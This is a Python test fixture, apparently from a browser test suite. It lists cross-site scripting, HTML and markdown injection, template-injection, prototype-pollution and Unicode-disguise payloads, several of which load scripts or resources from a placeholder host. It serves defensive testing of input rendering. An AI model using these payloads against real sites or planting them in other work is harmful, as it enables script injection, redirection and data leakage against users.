"""Texts that would run, load, navigate or disguise where a page took them for more than text; each says which it is.

Every one that runs writes MARK to the console, opens a dialog, asks for something elsewhere or leaves the page.
"""

from __future__ import annotations

from tests.browser.chromium import MARK

#: A host that is none: whatever is asked of it is seen.
ELSEWHERE = "http://elsewhere.invalid"
_RUN = f"console.log('{MARK}')"

PAYLOADS = (
    # Scripts and handlers
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT/x>{_RUN}</SCRIPT>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    "<img src=x onerror=alert(1)>",
    '" onerror="alert(1)" src="x',
    f'" autofocus onfocus="{_RUN}" x="',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<xss id=x tabindex=1 onfocus={_RUN} autofocus></xss>",
    # Links and addresses
    f"javascript:{_RUN}",
    f"[read me](javascript:{_RUN})",
    f'![x](x" onerror="{_RUN})',
    f"<javascript:{_RUN}>",
    f"data:text/html,<script>{_RUN}</script>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![picture]({ELSEWHERE}/seen.png)",
    f"[ref]: javascript:{_RUN}",
    # What loads, leaves or takes over
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}/></iframe>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}/><button>Copy</button><input name=q autofocus>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<object data={ELSEWHERE}/a.swf></object>",
    f"<style>*{{background:url({ELSEWHERE}/css)}}</style>",
    f"x;background:url({ELSEWHERE}/style)",
    f"<div style='position:fixed;inset:0;background:url({ELSEWHERE}/inset)'>",
    # Templates and data
    "{{7*7}}{{config}}{% for x in () %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "__proto__",
    "constructor",
    '{"__proto__":{"polluted":1}}',
    "*/-->]]>%>?></title></textarea></style></noscript>",
    # Disguises
    "\u202eexe.tac\u202c\u2066cat\u2069",
    "c\u200ba\u200bt\ufeff",
    "\u0430pple",
    "a" * 90,
)
